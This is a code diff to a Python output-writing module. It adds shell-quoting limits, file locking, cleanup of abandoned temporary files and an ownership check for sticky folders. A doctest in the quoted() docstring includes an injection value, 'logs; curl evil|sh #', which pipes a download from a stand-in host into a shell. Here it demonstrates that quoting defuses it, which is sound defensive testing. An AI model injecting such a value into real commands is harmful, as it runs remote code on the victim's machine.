@@ -17,6 +17,9 @@ from typing import IO
 
 from mnistgd.errors import OutputError
 
+_STICKY = 0o1000
+_LONGEST_WORD = 1000
+
 
 def reason(error: OSError) -> str:
     """What went wrong, in the system's own words: ``no space left on device``."""
@@ -38,12 +41,14 @@ def called(source: Path | bytes) -> str:
 def quoted(word: Path | str) -> str:
     """`word` as a shell takes it for one word: a hint that repeats a name is there to be pasted.
 
+    What no screen holds is left out.
+
     Examples
     --------
     >>> quoted("w.npz"), quoted("logs; curl evil|sh #")
     ('w.npz', "'logs; curl evil|sh #'")
     """
-    return shlex.quote(str(word))
+    return shlex.quote(str(word)) if len(str(word)) < _LONGEST_WORD else "…"
 
 
 def write_atomically(path: Path, *content: bytes | memoryview, follow: bool = True) -> None:
@@ -124,15 +129,11 @@ class GrowingFile:
     def _claim(self, stream: IO[bytes]) -> None:
         """Keep the file for this process until it ends, or until the stream is closed."""
         try:
-            import fcntl
-        except ImportError:  # on Windows nobody can replace a file that is open
-            return
-        try:
-            fcntl.flock(stream, fcntl.LOCK_EX | fcntl.LOCK_NB)
+            _lock(stream.fileno())
         except BlockingIOError as error:
             message = f"cannot write {self.path}: another run is writing to it"
             raise OutputError(message, "give each run a file of its own") from error
-        except OSError:  # some file systems keep no locks
+        except (ImportError, OSError):  # some file systems keep no locks, and Windows replaces no open file
             return
 
 
@@ -144,7 +145,8 @@ def check_writable(path: Path) -> None:
     Raises
     ------
     OutputError
-        If the folder does not exist or does not take a file, or `path` is a folder.
+        If the folder does not exist or does not take a file, `path` is a folder, or what is there is
+        somebody else's and cannot be replaced.
     """
     try:
         if path.exists() and not path.is_file() and not path.is_dir():
@@ -153,8 +155,29 @@ def check_writable(path: Path) -> None:
         handle, temporary = tempfile.mkstemp(prefix=".mnistgd-", suffix=".tmp", dir=_resolved(path).parent)
         os.close(handle)
         Path(temporary).unlink()
+        _check_owner(_resolved(path))
     except OSError as error:
         raise _cannot_write(path, error) from error
+
+
+def remove_abandoned(files: Iterable[Path]) -> None:
+    """Remove of these temporary files those that no living process writes to: who did was killed.
+
+    Where the system or its file system keeps no locks none is removed.
+    """
+    for file in files:
+        with contextlib.suppress(ImportError, OSError), file.open("r+b") as stream:
+            # One that holds nothing may be a moment old, and not locked yet by the process that made it.
+            if os.fstat(stream.fileno()).st_size:
+                _lock(stream.fileno())
+                file.unlink()
+
+
+def _lock(handle: int) -> None:
+    """Keep a file for this process until it ends or closes it; an OSError if another has it."""
+    import fcntl
+
+    fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
 
 
 def _replace(target: Path, content: Iterable[bytes | memoryview]) -> IO[bytes]:
@@ -163,6 +186,8 @@ def _replace(target: Path, content: Iterable[bytes | memoryview]) -> IO[bytes]:
     temporary = Path(name)
     try:
         stream = os.fdopen(handle, "wb")
+        with contextlib.suppress(ImportError, OSError):
+            _lock(handle)
         stream.writelines(content)
         stream.flush()
         os.fsync(stream.fileno())
@@ -189,6 +214,15 @@ def _check_target(path: Path) -> None:
     if not parent.exists():
         hint = f"mkdir -p {quoted(parent)}"
         raise OutputError(f"cannot write {path}: the folder {parent} does not exist", hint)
+
+
+def _check_owner(target: Path) -> None:
+    """In a folder such as /tmp a file is replaced by its owner, by that of the folder and by root alone."""
+    if not (target.exists() and hasattr(os, "geteuid")):
+        return
+    folder = target.parent.stat()
+    if folder.st_mode & _STICKY and os.geteuid() not in (0, target.stat().st_uid, folder.st_uid):
+        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))
 
 
 def _target(path: Path, follow: bool) -> Path:
